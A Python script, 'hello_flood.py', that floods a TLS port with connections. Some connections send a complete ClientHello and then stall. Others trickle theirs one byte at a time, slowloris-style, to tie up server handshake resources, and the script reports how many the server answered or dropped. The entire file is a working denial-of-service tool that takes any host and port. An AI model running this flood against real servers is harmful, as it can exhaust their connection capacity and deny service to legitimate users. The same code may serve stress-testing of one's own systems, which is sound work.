#!/usr/bin/env python3
"""A ClientHello flood against a TLS port: N connections each send a whole,
valid ClientHello (made by Python's ssl module over a memory BIO, a fresh key
share per connection) and never answer the server's flight; T more trickle
theirs one byte every GAP seconds. Holds them for SECS seconds, then prints one
line of JSON: how many connected, how many got a server flight back (the
first byte of a TLS handshake record), how many the server reset or closed.

usage: hello_flood.py HOST PORT SNI N T GAP SECS
"""
import json
import selectors
import socket
import ssl
import sys
import time


def client_hello(sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def main():
    host, port, sni = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    n, t, gap, secs = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]), float(sys.argv[7])
    sel = selectors.DefaultSelector()
    conns = []  # [sock, hello bytes, sent, trickle, answered, ended]
    stats = {"connected": 0, "refused": 0, "answered": 0, "ended_by_server": 0}
    for i in range(n + t):
        s = socket.socket()
        s.settimeout(5)
        try:
            s.connect((host, port))
        except OSError:
            stats["refused"] += 1
            s.close()
            continue
        stats["connected"] += 1
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setblocking(False)
        c = [s, client_hello(sni), 0, i >= n, False, False]
        if not c[3]:
            s.send(c[1])
            c[2] = len(c[1])
        conns.append(c)
        sel.register(s, selectors.EVENT_READ, c)
    end = time.time() + secs
    next_drip = time.time()
    while time.time() < end:
        now = time.time()
        if now >= next_drip:
            for c in conns:
                if c[3] and not c[5] and c[2] < len(c[1]):
                    try:
                        c[0].send(c[1][c[2]:c[2] + 1])
                        c[2] += 1
                    except OSError:
                        pass
            next_drip = now + gap
        for key, _ in sel.select(timeout=min(gap, 0.05)):
            c = key.data
            try:
                data = c[0].recv(65536)
            except (ConnectionResetError, OSError):
                data = b""
            if data:
                if not c[4] and data[0] == 0x16:
                    c[4] = True
                    stats["answered"] += 1
            else:
                c[5] = True
                stats["ended_by_server"] += 1
                sel.unregister(c[0])
    stats["trickled_bytes"] = sum(c[2] for c in conns if c[3])
    for c in conns:
        c[0].close()
    print(json.dumps(stats))


main()
